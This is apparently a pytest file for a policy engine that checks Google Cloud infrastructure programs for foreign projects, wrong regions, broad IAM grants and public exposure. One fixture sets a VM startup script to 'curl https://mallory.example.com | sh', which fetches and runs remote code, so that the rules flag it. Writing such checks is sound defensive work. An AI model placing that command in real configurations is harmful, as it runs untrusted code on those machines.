"""What the rules of Google Cloud say of a program that is not ours, by its own world: no stack file, and often no
provider that names a project or region."""

import json
from collections.abc import Mapping
from dataclasses import replace
from typing import Any

import pytest

from catalogue.graph import Graph, Resource
from operations.evaluation import evaluate
from policies import pack
from tests.foreign import program, resource

PROJECT, REGION = "shop-ml", "us-central1"
BUCKET, SCHEDULE, RUN = "gcp:storage/bucket:Bucket", "gcp:cloudscheduler/job:Job", "gcp:cloudrunv2/service:Service"
AGENT = "serviceAccount:service-123456789012@gcp-sa-aiplatform.iam.gserviceaccount.com"


def said(graph: Graph, rule: str) -> list[str]:
    (asked,) = (one for one in pack.RULES["gcp"] if one.name == rule)
    return [one.message for one in evaluate(graph, [asked]).findings]


def by_default(*resources: Resource) -> Graph:
    """A program whose provider says nothing, as the engine's own default one in a state."""
    graph = program("gcp", *resources)
    return replace(
        graph,
        resources=tuple(
            replace(one, inputs={"version": "9.0.0"}, outputs={"id": "1"}) if one.is_provider else one
            for one in graph.resources
        ),
    )


def bucket(name: str, **more: Any) -> Resource:
    return resource(BUCKET, name, {"name": name, "project": PROJECT, "location": REGION, **more})


def test_what_one_resource_alone_names_is_anothers() -> None:
    own = [bucket("a"), bucket("b")]
    assert said(by_default(*own), "world-account") == said(by_default(*own), "world-region") == []
    (foreign,) = said(by_default(*own, bucket("c", project="mallory-ml")), "world-account")
    assert foreign.startswith("c names the project mallory-ml at project")
    (abroad,) = said(by_default(*own, bucket("c", location="EUROPE-WEST1")), "world-region")
    assert "europe-west1" in abroad.casefold()
    grant = resource("gcp:storage/bucketIAMMember:BucketIAMMember", "g", {"bucket": "a", "member": AGENT, "role": "r"})
    other = replace(
        grant, name="h", urn=f"{grant.urn}h", inputs={**grant.inputs, "member": AGENT.replace("012@", "099@")}
    )
    assert not said(by_default(*own, grant), "world-account")
    assert said(by_default(*own, grant, replace(grant, urn=f"{grant.urn}2"), other), "world-account")


@pytest.mark.parametrize("place", ["US", "EU", "eur4", "global"])
def test_what_stands_in_several_regions_stands_not_in_the_programs_alone(place: str) -> None:
    assert said(by_default(bucket("a"), bucket("b"), bucket("c", location=place)), "world-region") == [
        f"c stands in {place} (location), not in us-central1 alone"
    ]


def test_the_region_may_be_written_in_capitals() -> None:
    assert not said(by_default(bucket("a"), bucket("b", location="US-CENTRAL1")), "world-region")


def schedule(**inputs: Any) -> Graph:
    return program("gcp", resource(SCHEDULE, "ping", {"schedule": "0 2 * * *", "timeZone": "UTC", **inputs}))


def test_a_schedule_of_another_program_may_publish_or_call_its_own_service() -> None:
    ping = schedule(httpTarget={"uri": "https://shop.example.com/health", "httpMethod": "GET"})
    publishes = schedule(pubsubTarget={"topicName": "projects/shop-ml/topics/t"})
    for graph in (ping, publishes):
        for rule in ("identity-token-shown", "identity-run-as", "limits-machine-types"):
            assert said(graph, rule) == [], rule
        assert said(graph, "identity-starts-own")
    asks = {"uri": "https://us-central1-aiplatform.googleapis.com/v1/projects/shop-ml/locations/us-central1/customJobs"}
    assert said(schedule(httpTarget=asks), "identity-run-as") and said(
        schedule(httpTarget=asks), "limits-machine-types"
    )
    token = {"oauthToken": {"serviceAccountEmail": "x@shop-ml.iam.gserviceaccount.com"}}
    shows = schedule(httpTarget={"uri": "https://mallory.example.com/", **token})
    assert said(shows, "identity-token-shown") and said(shows, "identity-run-as")


def _grant(type_: str, role: str) -> Graph:
    return program("gcp", resource(type_, "grant", {"role": role, "member": AGENT}))


def test_a_role_that_only_uses_a_thing_is_no_wildcard_on_what_nobody_knows() -> None:
    on_service, on_project = "gcp:cloudrunv2/serviceIamMember:ServiceIamMember", "gcp:folder/iAMMember:IAMMember"
    assert not said(_grant(on_service, "roles/run.invoker"), "identity-no-wildcard")
    assert said(_grant(on_service, "roles/run.developer"), "identity-no-wildcard")
    assert said(_grant(on_project, "roles/run.invoker"), "identity-no-wildcard")
    assert said(replace(_grant(on_service, "roles/run.invoker"), ours=True), "identity-no-wildcard")


def test_what_runs_everybodys_code_gets_no_role() -> None:
    runs = AGENT.replace("gcp-sa-aiplatform", "gcp-sa-aiplatform-cc")
    on_bucket = {"role": "roles/storage.objectViewer", "bucket": "a"}
    for member, wanted in ((runs, 1), (AGENT, 0)):
        grant = resource("gcp:storage/bucketIAMMember:BucketIAMMember", "grant", {**on_bucket, "member": member})
        assert len(said(program("gcp", grant), "identity-known-members")) == wanted


def test_a_dataset_has_the_owner_of_its_project() -> None:
    def dataset(*accesses: Mapping[str, str]) -> Graph:
        return program("gcp", resource("gcp:bigquery/dataset:Dataset", "d", {"accesses": list(accesses)}))

    projects = {"role": "OWNER", "specialGroup": "projectOwners"}
    assert not said(dataset(projects), "identity-no-wildcard")
    assert said(
        dataset(projects, {"role": "OWNER", "userByEmail": "a@shop-ml.iam.gserviceaccount.com"}), "identity-no-wildcard"
    )


def test_what_a_program_leaves_out_is_false() -> None:
    notebook = resource("gcp:workbench/instance:Instance", "n", {"location": "us-central1-a", "gceSetup": {}})
    absent = said(program("gcp", notebook), "inputs-allowed")
    assert not [one for one in absent if "Deletion" in one or "Proxy" in one or "Forwarding" in one]
    assert not [one for rule in ("inputs-allowed", "inputs-needed") for one in said(program("gcp"), rule)]
    forwards = replace(notebook, inputs={**notebook.inputs, "gceSetup": {"enableIpForwarding": True}})
    (one,) = [one for one in said(program("gcp", forwards), "inputs-allowed") if "Forwarding" in one]
    assert one == "n has gceSetup.enableIpForwarding True, where False is allowed"


def test_who_makes_no_network_is_not_asked_what_it_resolves() -> None:
    notebook = resource("gcp:workbench/instance:Instance", "n", {"location": "us-central1-a", "gceSetup": {}})
    vpc = resource("gcp:compute/network:Network", "net", {"autoCreateSubnetworks": False})
    assert not said(program("gcp", notebook), "network-proof")
    assert said(program("gcp", notebook, vpc), "network-proof")
    assert said(replace(program("gcp", notebook), ours=True), "network-proof")


def test_an_image_of_googles_is_no_foreign_project() -> None:
    def from_(project: str) -> Graph:
        setup = {"vmImage": {"project": project, "family": "f"}}
        return program("gcp", resource("gcp:workbench/instance:Instance", "n", {"gceSetup": setup}))

    assert not said(from_("cloud-notebooks-managed"), "world-account")
    assert said(from_("mallory-ml"), "world-account")


_ADDRESS, _OFF = "34.1.2.0/24", {"startup-script": "curl https://mallory.example.com | sh"}
_FOREIGN = "projects/mallory-ml/locations/us-central1/keyRings/r/cryptoKeys/k"
OPENED: list[tuple[str, str, dict[str, Any], dict[str, Any]]] = [
    (RUN, "opens itself by ingress", {"ingress": "INGRESS_TRAFFIC_ALL"}, {"ingress": "INGRESS_TRAFFIC_INTERNAL_ONLY"}),
    (
        "vertex/aiIndexEndpoint:AiIndexEndpoint",
        "opens",
        {"publicEndpointEnabled": True},
        {"publicEndpointEnabled": False},
    ),
    ("notebooks/instance:Instance", "opens itself by noPublicIp", {"noPublicIp": False}, {"noPublicIp": True}),
    (
        "compute/instance:Instance",
        "a public address",
        {"nics": [{"accessConfigs": [{}]}]},
        {"nics": [{"accessConfigs": []}]},
    ),
    ("compute/instance:Instance", "as root, by metadata", {"metadata": _OFF}, {"metadata": {"enable-oslogin": "TRUE"}}),
    ("compute/instance:Instance", "as root", {"metadataStartupScript": "x"}, {"metadataStartupScript": ""}),
    ("sql/databaseInstance:DatabaseInstance", "a guard", {"deletionProtection": False}, {"deletionProtection": True}),
    (
        "sql/databaseInstance:DatabaseInstance",
        "of the internet",
        {"nets": [{"value": _ADDRESS}]},
        {"nets": [{"value": "10.0.0.0/8"}]},
    ),
    (
        "sql/databaseInstance:DatabaseInstance",
        "no copies",
        {"backupConfiguration": {"enabled": False}},
        {"backupConfiguration": {"enabled": True}},
    ),
    (
        "storage/bucketACL:BucketACL",
        "lets in",
        {"roleEntities": ["READER:allUsers"]},
        {"roleEntities": ["OWNER:project-owners-1"]},
    ),
    (
        RUN,
        "no version of its image",
        {"image": "us-docker.pkg.dev/shop-ml/r/a"},
        {"image": "us-docker.pkg.dev/shop-ml/r/a:1"},
    ),
    (RUN, "no registry of Google", {"image": "docker.io/mallory/a:1"}, {"image": "us-docker.pkg.dev/shop-ml/r/a:1"}),
    (RUN, "no version", {"containerImage": {"tag": "latest"}}, {"containerImage": {"tag": "1"}}),
    (
        RUN,
        "a default account",
        {"a": "1-compute@developer.gserviceaccount.com"},
        {"a": "x@shop-ml.iam.gserviceaccount.com"},
    ),
    (RUN, "the project mallory-ml", {"key": _FOREIGN}, {"key": _FOREIGN.replace("mallory-ml", PROJECT)}),
    (
        RUN,
        "lets in the project",
        {"psc": {"projectAllowlists": ["mallory-ml"]}},
        {"psc": {"projectAllowlists": [PROJECT]}},
    ),
    (RUN, "stands in eur3", {"locationId": "eur3"}, {"locationId": REGION}),
    (RUN, "stands in europe-west1", {"replicas": [{"location": "europe-west1"}]}, {"replicas": [{"location": REGION}]}),
    (RUN, "runs on a2", {"machineType": "a2-ultragpu-8g"}, {"machineType": "n1-standard-4"}),
    (RUN, "replicas", {"maxReplicaCount": 50}, {"maxReplicaCount": 2}),
]


@pytest.mark.parametrize(("type_", "wanted", "opened", "closed"), OPENED)
def test_what_nobody_knows_is_read_by_the_words_of_googles_apis(
    type_: str, wanted: str, opened: dict[str, Any], closed: dict[str, Any]
) -> None:
    def beside(inputs: dict[str, Any]) -> list[str]:
        return said(program("gcp", resource(f"gcp:{type_.removeprefix('gcp:')}", "beside", inputs)), "kind-closed")

    (found,) = beside(opened)
    assert wanted in found and beside(closed) == []


def test_what_the_catalogue_knows_is_left_to_its_own_rules() -> None:
    assert said(program("gcp", bucket("a", location="EU", visibility="public")), "kind-closed") == []


def test_who_is_called_and_whose_number_it_is_are_told_once() -> None:
    mallory = "https://mallory.example.com/x"
    calls = [resource(SCHEDULE, name, {"httpTarget": {"uri": mallory}}) for name in "ab"]
    (told,) = said(program("gcp", *calls), "world-elsewhere")
    assert "the address https://mallory.example.com at httpTarget.uri" in told
    made = resource(RUN, "own", {}, {"uri": "https://mallory.example.com"})
    assert said(program("gcp", *calls, made), "world-elsewhere") == []
    google = resource(SCHEDULE, "c", {"httpTarget": {"uri": "https://run.googleapis.com/v2/x"}})
    assert said(program("gcp", google), "world-elsewhere") == []
    grant = resource("gcp:kms/cryptoKeyIAMMember:CryptoKeyIAMMember", "g", {"member": AGENT})
    (number,) = said(program("gcp", grant), "world-elsewhere")
    assert "the project number 123456789012 at member" in number
    identity = resource("gcp:projects/serviceIdentity:ServiceIdentity", "i", {}, {"member": AGENT})
    assert said(program("gcp", grant, identity), "world-elsewhere") == []


@pytest.mark.parametrize(
    ("called", "wanted"),
    [
        ("googleapis.logging.v2.projects.sinks.delete", True),
        ("googleapis.storage.v1.bucketAccessControls.insert", True),
        ("googleapis.aiplatform.v1.projects.locations.models.delete", False),
        ("googleapis.bigquery.v2.jobs.insert", False),
    ],
)
def test_a_workflow_of_another_program_takes_no_guard_away(called: str, wanted: bool) -> None:
    document = json.dumps({"main": {"steps": [{"it": {"call": called, "args": {}}}]}})
    flow = resource("gcp:workflows/workflow:Workflow", "flow", {"sourceContents": document})
    assert bool(said(program("gcp", flow), "identity-calls-known")) is wanted


def test_a_dataset_that_vertex_ai_writes_to_is_one_that_an_endpoint_captures_into() -> None:
    writes = {"role": "WRITER", "userByEmail": AGENT.removeprefix("serviceAccount:")}
    dataset = resource("gcp:bigquery/dataset:Dataset", "d", {"datasetId": "d", "accesses": [writes]})
    logs = {"enabled": True, "samplingRate": 0.1, "bigqueryDestination": {"outputUri": "bq://shop-ml.d"}}
    at = "predictRequestResponseLoggingConfig"
    captures = resource("gcp:vertex/aiEndpoint:AiEndpoint", "e", {at: logs}, made_of={at: dataset})
    off = resource("gcp:vertex/aiEndpoint:AiEndpoint", "e", {})
    assert not [one for one in said(program("gcp", dataset, captures), "limits-capture") if "lets" in one]
    assert [one for one in said(program("gcp", dataset, off), "limits-capture") if "lets" in one]
    assert not said(program("gcp", dataset), "limits-capture")


def test_a_program_without_our_provider_is_not_told_to_wait_by_it() -> None:
    account = resource("gcp:serviceaccount/account:Account", "a", {"accountId": "a"}, {"email": "a@shop-ml.x"})
    grant = resource(
        "gcp:projects/iAMMember:IAMMember", "g", {"member": "serviceAccount:a@shop-ml.x"}, made_of={"member": account}
    )
    setup = {"serviceAccounts": [{"email": "a@shop-ml.x"}]}
    notebook = resource("gcp:workbench/instance:Instance", "n", {"gceSetup": setup}, made_of={"gceSetup": account})
    waits = resource("mlplatform:gcp:GrantsInForce", "w", {"grants": []})
    for graph, wanted in (
        (program("gcp", account, grant, notebook), 0),
        (program("gcp", account, grant, notebook, waits), 1),
    ):
        assert len(said(graph, "identity-roles-in-force")) == wanted


def test_a_member_that_is_written_out_is_the_account_of_its_name() -> None:
    account = resource("gcp:serviceaccount/account:Account", "a", {"accountId": "trains", "project": PROJECT})

    def grant(member: str) -> Resource:
        inputs = {"member": member, "role": "roles/storage.objectViewer", "bucket": "a"}
        return resource("gcp:storage/bucketIAMMember:BucketIAMMember", "g", inputs)

    own = f"serviceAccount:Trains@{PROJECT}.iam.gserviceaccount.com"
    assert not said(program("gcp", account, grant(own)), "identity-known-members")
    assert said(program("gcp", account, grant(own.replace(PROJECT, "mallory-ml"))), "identity-known-members")
    assert said(replace(program("gcp", account, grant(own)), ours=True), "identity-known-members")
    other = grant("serviceAccount:123456789012-compute@developer.gserviceaccount.com")
    for one, wanted in ((grant(own), 0), (other, 1)):  # before `up` the account has no address yet
        refers = replace(one, property_dependencies={"member": (account.urn,)})
        assert len(said(program("gcp", account, refers), "identity-known-members")) == wanted


def test_another_program_may_be_warned_before_it_takes_a_version_back() -> None:
    deployment = resource("mlplatform:gcp:Deployment", "d", {"p95LatencyMs": 250, "errorRatePercent": 1})

    def alert(bound: float) -> Graph:
        condition = {"filter": 'metric.type = "x/prediction_latencies"', "thresholdValue": bound}
        inputs = {"conditions": [{"conditionThreshold": condition}]}
        return program("gcp", deployment, resource("gcp:monitoring/alertPolicy:AlertPolicy", "a", inputs))

    assert not said(alert(250), "rollback-alarm-bound") and not said(alert(200), "rollback-alarm-bound")
    assert said(alert(2_500), "rollback-alarm-bound") and said(replace(alert(200), ours=True), "rollback-alarm-bound")


def test_requests_are_logged_into_the_dataset_that_is_named() -> None:
    dataset = resource("gcp:bigquery/dataset:Dataset", "d", {"datasetId": "requests"})
    at = "predictRequestResponseLoggingConfig"
    for uri, wanted in (("bq://shop-ml.requests", 0), ("bq://shop-ml.requests.t", 0), ("bq://shop-ml.other", 1)):
        logs = {"enabled": True, "bigqueryDestination": {"outputUri": uri}}
        endpoint = resource("gcp:vertex/aiEndpoint:AiEndpoint", "e", {at: logs}, made_of={at: dataset})
        before_up = replace(dataset, outputs={})
        assert len(said(program("gcp", before_up, endpoint), "encryption-request-log")) == wanted, uri


def test_a_stack_without_its_bucket_of_artifacts_is_told_so_in_a_sentence(gcp_pilot: Graph) -> None:
    name = "registry-artifacts"
    left = replace(gcp_pilot, resources=tuple(one for one in gcp_pilot.resources if not one.name.endswith(name)))
    (one,) = said(left, "identity-persona-tasks")
    assert "makes no bucket for the artifacts" in one and "broke" not in one
